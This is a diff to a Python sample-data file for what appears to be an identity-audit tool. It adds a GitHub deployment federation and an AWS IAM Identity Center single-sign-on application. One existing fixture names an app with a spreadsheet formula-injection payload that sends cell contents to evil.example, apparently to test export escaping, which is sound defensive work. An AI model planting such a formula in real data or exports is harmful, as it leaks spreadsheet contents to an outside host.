@@ -2,13 +2,16 @@
 
 from __future__ import annotations
 
-from sample_data import ids
+from sample_data import aws_ids, ids
 from sample_data.roster import (
     ADA,
     ANTON,
+    DEVELOPERS,
     ELIF,
     FAR_FUTURE,
     GRAPH_CLIENT,
+    HEAD_OF_DATA,
+    HEAD_OF_FINANCE,
     HEAD_OF_HR,
     HEAD_OF_PLATFORM,
     HELENE,
@@ -16,15 +19,19 @@ from sample_data.roster import (
     MARCUS,
     MICROSOFT,
     OWNER_POOL,
+    PLATFORM_ADMINS,
+    SECURITY_READERS,
     TOMAS,
     Application,
     Credential,
     Federation,
     Foreign,
     Person,
+    SingleSignOn,
 )
 
 GITHUB = "https://token.actions.githubusercontent.com"
+_CENTER = f"https://{aws_ids.REGION}.signin.aws.amazon.com/platform/saml"
 GRAPH_ROLES = {
     "RoleManagement.ReadWrite.Directory": "9e3f62cf-ca93-4989-b6ce-bf83c28f9fe8",
     "Application.ReadWrite.All": "1bfefb4e-e0b5-418b-a88f-73c46d2cc8e9",
@@ -78,6 +85,13 @@ DEPLOYER = Application(
         _secret("deploy-2025"),
         _secret("deploy-2023", start="2023-06-30", end="2024-06-30"),
         _secret("deploy-2021", start="2021-06-30", end="2023-06-30"),
+    ),
+    federations=(
+        Federation(
+            name="platform-deploy",
+            issuer=GITHUB,
+            subject="repo:northlight/platform-deploy:environment:production",
+        ),
     ),
 )
 SIGNING = Application(
@@ -195,6 +209,20 @@ WEATHER = Application(
     owners=(HELENE.id, ELIF.id),
     principal_owners=(HELENE.id, ELIF.id),
 )
+IDENTITY_CENTER = Application(
+    key="aws-identity-center",
+    name="AWS IAM Identity Center",
+    owners=(HEAD_OF_PLATFORM.id,),
+    principal_owners=(HEAD_OF_PLATFORM.id,),
+    sign_on=SingleSignOn(
+        identifier=f"{_CENTER}/{aws_ids.IDENTITY_STORE}",
+        reply_url=f"{_CENTER}/acs/{aws_ids.ACS}",
+        assigned=(
+            *((it.id, it.name, "Group") for it in (PLATFORM_ADMINS, DEVELOPERS, SECURITY_READERS)),
+            *((it.id, it.name, "User") for it in (HEAD_OF_DATA, HEAD_OF_FINANCE)),
+        ),
+    ),
+)
 HOSTILE_APP = _owned("hostile", '=WEBSERVICE("http://evil.example/"&A1)', OWNER_POOL[20])
 DISABLED_APP = Application(
     key="plotter",
@@ -207,8 +235,8 @@ DISABLED_APP = Application(
 STORY = (
     RELEASE, DEPLOYER, SIGNING, TELEMETRY, LEGACY_IMPORT, BILLING, SHOP_ADMIN, AUDIT_READER,
     IDENTITY_LIFECYCLE, APP_INVENTORY, GROUP_SYNC, HR_CONNECTOR, MAIL_NOTIFIER, SECRET_ROTATOR,
-    TERRAFORM, FIRMWARE, PARTNER_PORTAL, NIGHTLY, LEDGER_A, LEDGER_B, WEATHER, HOSTILE_APP,
-    DISABLED_APP,
+    TERRAFORM, FIRMWARE, PARTNER_PORTAL, NIGHTLY, LEDGER_A, LEDGER_B, WEATHER, IDENTITY_CENTER,
+    HOSTILE_APP, DISABLED_APP,
 )  # fmt: skip
 
 # No directory owner; a register row decides about some of them (see `register.py`).
